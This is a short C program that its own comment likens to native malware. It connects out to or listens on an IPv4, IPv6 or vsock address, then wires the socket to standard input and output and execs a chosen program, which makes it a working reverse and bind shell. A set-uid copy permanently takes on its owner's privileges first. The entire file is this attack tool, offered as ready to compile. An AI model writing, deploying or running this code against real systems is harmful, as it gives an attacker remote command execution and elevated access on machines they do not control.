/* Wires a program to a network peer, the way native malware does it: no interpreter, no shell redirection.
 *
 * connect 4|6|v ADDRESS PORT PROGRAM [ARGS...]     reverse
 * listen  4|6|v ADDRESS PORT PROGRAM [ARGS...]     bind
 *
 * "v" is vsock, where ADDRESS is a context id. A set-uid copy becomes its owner for good first.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include <linux/vm_sockets.h>

static socklen_t address(char **argv, struct sockaddr_storage *storage)
{
	unsigned int port = strtoul(argv[4], NULL, 10);

	memset(storage, 0, sizeof(*storage));
	switch (argv[2][0]) {
	case '4': {
		struct sockaddr_in *in = (void *)storage;
		in->sin_family = AF_INET;
		in->sin_port = htons(port);
		if (inet_pton(AF_INET, argv[3], &in->sin_addr) != 1)
			errx(2, "not an IPv4 address: %s", argv[3]);
		return sizeof(*in);
	}
	case '6': {
		struct sockaddr_in6 *in6 = (void *)storage;
		in6->sin6_family = AF_INET6;
		in6->sin6_port = htons(port);
		if (inet_pton(AF_INET6, argv[3], &in6->sin6_addr) != 1)
			errx(2, "not an IPv6 address: %s", argv[3]);
		return sizeof(*in6);
	}
	case 'v': {
		struct sockaddr_vm *vm = (void *)storage;
		vm->svm_family = AF_VSOCK;
		vm->svm_port = port;
		vm->svm_cid = strtoul(argv[3], NULL, 10);
		return sizeof(*vm);
	}
	}
	errx(2, "unknown family: %s", argv[2]);
}

int main(int argc, char **argv)
{
	struct sockaddr_storage storage;
	socklen_t length;
	int fd, on = 1;

	if (argc < 6)
		errx(2, "connect|listen 4|6|v ADDRESS PORT PROGRAM [ARGS...]");
	if (geteuid() != getuid() && setuid(geteuid()))
		err(1, "setuid");
	length = address(argv, &storage);
	fd = socket(storage.ss_family, SOCK_STREAM, 0);
	if (fd < 0)
		err(1, "socket");
	if (strcmp(argv[1], "listen") == 0) {
		setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
		if (bind(fd, (void *)&storage, length) || listen(fd, 1))
			err(1, "listen");
		fd = accept(fd, NULL, NULL);
		if (fd < 0)
			err(1, "accept");
	} else if (connect(fd, (void *)&storage, length)) {
		err(1, "connect");
	}
	for (int stream = 0; stream < 3; stream++)
		dup2(fd, stream);
	execv(argv[5], argv + 5);
	err(1, "%s", argv[5]);
}
